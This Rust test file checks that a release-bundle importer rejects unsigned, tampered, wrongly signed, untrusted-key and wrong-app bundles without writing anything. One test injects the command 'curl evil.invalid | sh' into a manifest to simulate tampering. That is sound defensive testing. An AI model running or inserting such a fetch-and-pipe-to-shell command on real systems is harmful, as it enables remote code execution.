//! The tamper matrix: unsigned, tampered payload, tampered manifest, wrong
//! signature, untrusted key and wrong app are each refused with their own
//! error, and nothing is written.

use crate::support::{
    APP, Fixture, RawEntry, other_key, read_raw, signed_head, trusted, write_raw,
};
use daytwo_release::{BuildOptions, ReleaseError, build, import, verify};

/// Imports `bundle` and asserts it is refused without writing anything.
fn refused(fixture: &Fixture, bundle: &std::path::Path, app: &str) -> ReleaseError {
    let before = fixture.tree();
    let error = import(bundle, &fixture.store(), &trusted(), app).unwrap_err();
    assert!(!fixture.store().exists(), "no store directory was created");
    assert_eq!(fixture.tree(), before, "nothing was written");
    assert!(error.hint().is_some(), "{error}");
    error
}

/// Rewrites the built bundle's entries with `change`.
fn rewrite(fixture: &Fixture, change: impl FnOnce(&mut Vec<RawEntry>)) -> std::path::PathBuf {
    let built = fixture.build();
    let mut entries = read_raw(&built.path);
    change(&mut entries);
    let path = fixture.root.path().join("tampered.tar.zst");
    write_raw(&path, &entries);
    path
}

#[test]
fn a_good_bundle_verifies() {
    let fixture = Fixture::new();
    let built = fixture.build();
    let verified = verify(&built.path, &trusted(), APP).unwrap();
    assert_eq!(verified.digest, built.digest);
    assert_eq!(verified.version, "1.0.0");
    assert_eq!(&verified.signer, crate::support::key().public_key().id());
}

#[test]
fn an_unsigned_bundle_is_refused() {
    let fixture = Fixture::new();
    let options = BuildOptions {
        signing_key: None,
        ..fixture.options()
    };
    let built = build(&fixture.spec(), None, &options).unwrap();
    let error = refused(&fixture, &built.path, APP);
    assert!(matches!(error, ReleaseError::Unsigned), "{error:?}");
}

#[test]
fn a_tampered_payload_is_refused_naming_the_entry() {
    let fixture = Fixture::new();
    let bundle = rewrite(&fixture, |entries| {
        let app = entries
            .iter_mut()
            .find(|e| e.name == b"files/app.py")
            .unwrap();
        app.data = b"print('pwned')\n".to_vec();
    });
    let error = refused(&fixture, &bundle, APP);
    assert!(
        matches!(&error, ReleaseError::PayloadTampered { entry, .. } if entry == "files/app.py"),
        "{error:?}"
    );
}

#[test]
fn a_tampered_manifest_is_refused() {
    let fixture = Fixture::new();
    let bundle = rewrite(&fixture, |entries| {
        let text = String::from_utf8(entries[0].data.clone()).unwrap();
        entries[0].data = text
            .replace("python3 app.py", "curl evil.invalid | sh")
            .into_bytes();
    });
    let error = refused(&fixture, &bundle, APP);
    assert!(
        matches!(error, ReleaseError::ManifestTampered { .. }),
        "{error:?}"
    );
}

#[test]
fn a_wrong_signature_is_refused() {
    let fixture = Fixture::new();
    let bundle = rewrite(&fixture, |entries| {
        let mut signature: serde_json::Value = serde_json::from_slice(&entries[1].data).unwrap();
        let text = signature["signature"].as_str().unwrap().to_string();
        let flipped = if text.starts_with('A') { "B" } else { "A" };
        signature["signature"] = format!("{flipped}{}", &text[1..]).into();
        entries[1].data = serde_json::to_vec(&signature).unwrap();
    });
    let error = refused(&fixture, &bundle, APP);
    assert!(
        matches!(error, ReleaseError::BadSignature { .. }),
        "{error:?}"
    );
}

#[test]
fn a_bundle_signed_by_an_untrusted_key_is_refused() {
    let fixture = Fixture::new();
    let built = fixture.build();
    let bundle = rewrite(&fixture, |entries| {
        let head = signed_head(&built.manifest, &other_key());
        entries.splice(0..2, head);
    });
    let error = refused(&fixture, &bundle, APP);
    let ReleaseError::UntrustedKey { key_id, trusted } = &error else {
        panic!("{error:?}")
    };
    assert_eq!(key_id, other_key().public_key().id());
    assert_eq!(
        trusted,
        &vec![crate::support::key().public_key().id().clone()]
    );
    assert!(error.to_string().contains(key_id.as_str()));
}

#[test]
fn a_bundle_of_another_app_is_refused() {
    let fixture = Fixture::new();
    let built = fixture.build();
    let error = refused(&fixture, &built.path, "billing");
    assert!(
        matches!(&error, ReleaseError::WrongApp { expected, found } if expected == "billing" && found == APP),
        "{error:?}"
    );
}

#[test]
fn a_file_that_is_not_a_bundle_is_refused() {
    let fixture = Fixture::new();
    let path = fixture.root.path().join("junk.tar.zst");
    std::fs::write(&path, b"not zstd at all").unwrap();
    let error = refused(&fixture, &path, APP);
    assert!(
        matches!(error, ReleaseError::NotABundle { .. }),
        "{error:?}"
    );
}
